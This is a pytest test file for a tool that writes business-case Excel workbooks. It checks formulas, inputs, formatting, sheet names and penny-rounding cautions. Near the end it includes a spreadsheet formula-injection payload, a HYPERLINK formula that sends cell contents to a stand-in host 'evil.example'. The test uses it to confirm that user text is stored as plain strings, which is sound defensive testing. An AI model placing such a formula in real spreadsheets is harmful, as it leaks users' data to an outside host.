"""The case workbook's shape: inputs are values, everything calculated is a live formula.

Whether the formulas give the engine's answers is checked by recalculating in LibreOffice
(tests/integration/test_case_workbook_libreoffice.py).
"""

from __future__ import annotations

import io
import re
from dataclasses import replace
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from realise.finance.model import BusinessCase
from realise.reports.case_workbook import MONEY, write_case_workbook
from tests.workbooks import FOUND_IN_CI, THIRD, make_case

D = Decimal


@pytest.fixture
def case() -> BusinessCase:
    return make_case(
        savings={"customer": D("120000.00"), "=sum": D("5000.50")},
        scenarios=[
            (
                "s1",
                {
                    "customer": [(date(2025, 11, 15), THIRD), (date(2026, 3, 31), THIRD)],
                    "=sum": [(date(2025, 9, 30), D(1))],
                },
                {"technology": {2025: D("40000.00")}, "staff": {2026: D("1234.56")}},
            ),
            ("s2", {"customer": [(date(2026, 6, 1), D(1))]}, {}),
        ],
    )


def _book(case: BusinessCase, tmp_path: Path, **kwargs: object) -> openpyxl.Workbook:
    path = tmp_path / "case.xlsx"
    write_case_workbook(case, path, **kwargs)  # type: ignore[arg-type]
    return openpyxl.load_workbook(path)


def _row(ws: Worksheet, label: str) -> int:
    return next(r for r in range(1, ws.max_row + 1) if ws.cell(row=r, column=1).value == label)


def _is_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith("=")


def test_workbook_has_a_summary_the_inputs_and_a_sheet_per_scenario(case, tmp_path):
    book = _book(case, tmp_path)
    assert book.sheetnames == ["Summary", "Inputs", "1. Scenario s1", "2. Scenario s2"]


def test_writes_to_a_binary_stream(case):
    stream = io.BytesIO()
    write_case_workbook(case, stream)
    assert openpyxl.load_workbook(io.BytesIO(stream.getvalue())).sheetnames[0] == "Summary"


def test_scenario_ids_choose_and_order_the_scenario_sheets(case, tmp_path):
    book = _book(case, tmp_path, scenario_ids=["s2"])
    assert book.sheetnames == ["Summary", "Inputs", "1. Scenario s2"]
    with pytest.raises(KeyError, match="no scenario 'nope'"):
        write_case_workbook(case, tmp_path / "x.xlsx", scenario_ids=["nope"])


@pytest.mark.parametrize(
    "label",
    [
        "Full-year effect",
        "Part-year effect",
        "Cumulative part-year effect",
        "Cost in year",
        "Cumulative cost",
        "Cumulative net",
        "FTE released",
        "Discount factor",
        "Present value",
    ],
)
def test_every_year_result_is_a_formula(case, tmp_path, label):
    ws = _book(case, tmp_path)["1. Scenario s1"]
    row = _row(ws, label)
    cells = [ws.cell(row=row, column=2 + y).value for y in range(case.year_count)]
    assert all(_is_formula(v) for v in cells), cells


def test_npv_rounds_once_at_the_end_and_payback_is_a_formula(case, tmp_path):
    ws = _book(case, tmp_path)["1. Scenario s1"]
    npv = ws.cell(row=_row(ws, "Net present value"), column=2).value
    assert npv.startswith("=ROUND(SUM(")
    assert _is_formula(ws.cell(row=_row(ws, "Payback year"), column=2).value)


def test_tranche_rows_are_formulas_with_pence_rounding(case, tmp_path):
    ws = _book(case, tmp_path)["1. Scenario s1"]
    header = _row(ws, "Layer")
    titles = {ws.cell(row=header, column=c).value: c for c in range(1, ws.max_column + 1)}
    tranche_rows = range(header + 1, header + 4)  # three tranches in s1
    for row in tranche_rows:
        for title in ("Annual value", "Cumulative allocated", "FTE", "Starts earning"):
            assert _is_formula(ws.cell(row=row, column=titles[title]).value)
        assert "ROUND(" in ws.cell(row=row, column=titles["Cumulative allocated"]).value
        part_year = ws.cell(row=row, column=2).value
        assert part_year.startswith("=ROUND(")
        assert part_year.endswith(",2)")
        fraction = ws.cell(row=row, column=titles["Starts earning"] + 1).value
        assert "EOMONTH(" in fraction
        assert "DAY(" in fraction
    assert ws.cell(row=header + 4, column=1).value is None


def test_inputs_are_values_equal_to_the_case(case, tmp_path):
    ws = _book(case, tmp_path)["Inputs"]
    assert ws.cell(row=_row(ws, "Discount rate"), column=2).value == pytest.approx(0.035)
    first_day = ws.cell(row=_row(ws, "First day"), column=2).value
    assert first_day == datetime(2025, 4, 1)
    row = _row(ws, "customer")
    layer = case.layer("customer")
    saving = case.level("main").savings["customer"]
    assert [ws.cell(row=row, column=c).value for c in range(1, 7)] == [
        "customer",
        layer.name,
        pytest.approx(float(layer.baseline_cost)),
        pytest.approx(float(layer.baseline_fte)),
        pytest.approx(float(saving.amount)),
        pytest.approx(float(saving.fte)),
    ]
    technology = _row(ws, "technology")
    assert ws.cell(row=technology, column=2).value == pytest.approx(40000)
    assert ws.cell(row=technology, column=3).value == 0
    tranches = [r for r in range(1, ws.max_row + 1) if ws.cell(row=r, column=1).value == "customer"]
    release = tranches[1]  # the first is the layers table, then s1's tranches
    assert ws.cell(row=release, column=2).value == datetime(2025, 11, 15)
    assert ws.cell(row=release, column=3).value == pytest.approx(1 / 3)


def test_names_from_the_case_stay_text_even_when_they_look_like_formulas(case, tmp_path):
    book = _book(case, tmp_path)
    inputs = book["Inputs"]
    assert _row(inputs, "=sum") > 0
    cell = inputs.cell(row=_row(inputs, "=sum"), column=1)
    assert cell.data_type == "s"


def test_defined_names_point_at_the_inputs(case, tmp_path):
    book = _book(case, tmp_path)
    names = book.defined_names
    assert names["DiscountRate"].attr_text == "'Inputs'!$B$6"
    assert names["LayerIds"].attr_text.startswith("'Inputs'!$A$")
    assert {"LevelIds", "LevelValues", "Scenario1Level", "Scenario2Level"} <= set(names)


def test_summary_figures_reference_the_scenario_sheets(case, tmp_path):
    ws = _book(case, tmp_path)["Summary"]
    header = _row(ws, "Scenario")
    for row in (header + 1, header + 2):
        formulas = [ws.cell(row=row, column=c).value for c in range(2, 10)]
        assert all(_is_formula(f) and "'!" in f for f in formulas), formulas


def test_a_scenario_without_tranches_or_costs_still_has_formulas(tmp_path):
    empty = make_case(savings={"a": D("10.00")}, scenarios=[("none", {}, {})])
    ws = _book(empty, tmp_path)["1. Scenario none"]
    for label in ("Full-year effect", "Part-year effect", "Cost in year", "FTE released"):
        assert ws.cell(row=_row(ws, label), column=2).value == "=0"


def test_money_cells_use_the_pounds_format_and_headers_are_frozen(case, tmp_path):
    ws = _book(case, tmp_path)["1. Scenario s1"]
    assert ws.cell(row=_row(ws, "Part-year effect"), column=2).number_format == MONEY
    assert ws.freeze_panes == "B5"
    assert ws.column_dimensions["A"].width > 20


def test_cells_keep_their_look_inputs_shaded_headings_and_totals_bold(case, tmp_path):
    book = _book(case, tmp_path)
    inputs, ws = book["Inputs"], book["1. Scenario s1"]
    rate = inputs["B6"]
    look = (rate.number_format, rate.fill.fgColor.rgb, rate.font.name)
    assert look == ("0.00%", "00E8F1F8", "Arial")
    heading = ws.cell(row=_row(ws, "£ unless stated"), column=2)
    look = (heading.font.b, heading.fill.fgColor.rgb, heading.border.bottom.style)
    assert look == (True, "00F3F2F1", "thin")
    assert heading.alignment.wrap_text
    npv = ws.cell(row=_row(ws, "Net present value"), column=2)
    assert (npv.font.b, npv.border.top.style, npv.number_format) == (True, "thin", MONEY)
    fye = ws.cell(row=_row(ws, "Full-year effect"), column=2)
    assert (fye.font.b, fye.fill.patternType, fye.border.top.style) == (False, None, None)
    assert (ws["A1"].font.sz, ws["A1"].font.b) == (14, True)
    assert "Realise input money" in book.named_styles
    assert [inputs.column_dimensions[c].width for c in "ABCE"] == [30, 16, 16, 16]
    assert (inputs.freeze_panes, book["Summary"].freeze_panes) == ("B11", "B5")


def test_long_or_awkward_scenario_names_make_valid_unique_sheet_names(tmp_path):
    case = make_case(
        savings={"a": D("10.00")},
        scenarios=[("x", {}, {}), ("y", {}, {})],
    )
    renamed = tuple(
        replace(s, name="Option [A]: a very long name/with * odd ? characters")
        for s in case.scenarios
    )
    book = _book(replace(case, scenarios=renamed), tmp_path)
    names = book.sheetnames[2:]
    assert len(set(names)) == 2
    assert all(len(n) <= 31 and not set(n) & set("[]:*?/\\") for n in names)


def test_a_case_without_layers_is_refused(tmp_path):
    case = make_case(savings={"a": D("1.00")}, scenarios=[("x", {}, {})])
    with pytest.raises(ValueError, match="no layers"):
        write_case_workbook(replace(case, layers=()), tmp_path / "x.xlsx")


CAUTION = "A22"  # between the year results and the tranche table


def test_a_case_whose_shares_a_spreadsheet_holds_carries_no_caution(case, tmp_path):
    book = _book(case, tmp_path)
    assert [ws[CAUTION].value for ws in book.worksheets[2:]] == [None, None]


def test_tranches_a_spreadsheet_may_round_a_penny_away_are_named_with_realises_values(tmp_path):
    caution = _book(FOUND_IN_CI, tmp_path)["1. Scenario r"][CAUTION].value
    assert caution.startswith("A penny to check, tranche rows 29, 30:")
    assert caution.endswith("Realise's annual values: row 29 £55,554.31; row 30 £18,518.11.")


@pytest.mark.parametrize(
    ("saving", "first_share", "flagged"),
    [
        # 5/6 of 111,108.63 is 92,590.525: a half penny
        ("111108.63", THIRD, True),  # 28 digits: 4e-22 pence below the half
        ("111108.63", D("0.333333333333333"), True),  # 15 digits, as copied from Excel
        ("111108.63", D("0.33333333333333334"), True),  # above it, yet the same binary number
        ("111108.63", D("0.3333"), False),  # 33.33%: 9,258,682.1379 pence, nowhere near
        ("111108.62", THIRD, False),  # 5/6 of it is 92,590.516...: no half penny near
        ("0.06", D("0.25"), False),  # 1.5p and 4.5p: exact halves, rounded up in both
    ],
)
def test_the_caution_falls_where_the_cumulative_allocation_is_a_hair_from_a_half_penny(
    tmp_path, saving, first_share, flagged
):
    case = make_case(
        savings={"a": D(saving)},
        scenarios=[
            (
                "s",
                {"a": [(date(2025, 6, 30), first_share), (date(2026, 6, 30), D("0.5"))]},
                {},
            )
        ],
    )
    caution = _book(case, tmp_path)["1. Scenario s"][CAUTION].value
    if flagged:  # the second tranche's cumulative allocation (row 26) is the one in doubt
        assert caution.startswith("A penny to check, tranche rows 26:")
    else:
        assert caution is None


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
_SHEET_REFERENCE = re.compile(r"'(?:[^']|'')*'!")  # a quoted sheet name in a formula


def test_text_from_the_case_is_never_a_formula_wherever_it_is_written(tmp_path):
    """Every name, title and id the case gives is written as a string cell: a formula in the
    workbook is always one of Realise's own (the user's text appears in one only as the quoted
    name of a sheet it refers to)."""
    case = make_case(
        savings={HYPERLINK: D("1000.00"), "-minus": D("10.00")},
        scenarios=[("-s", {HYPERLINK: [(date(2025, 9, 30), D(1))]}, {HYPERLINK: {2025: D(5)}})],
    )
    scenarios = tuple(replace(s, name=HYPERLINK) for s in case.scenarios)
    case = replace(case, organisation="+44 1305 221000", title=HYPERLINK, scenarios=scenarios)
    book = _book(case, tmp_path)
    text_cells = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert "HYPERLINK" not in _SHEET_REFERENCE.sub("", cell.value), cell.value
                elif isinstance(cell.value, str) and (
                    "evil.example" in cell.value or cell.value.startswith(("+44", "-"))
                ):
                    assert cell.data_type == "s"
                    text_cells += 1
    assert text_cells >= 8
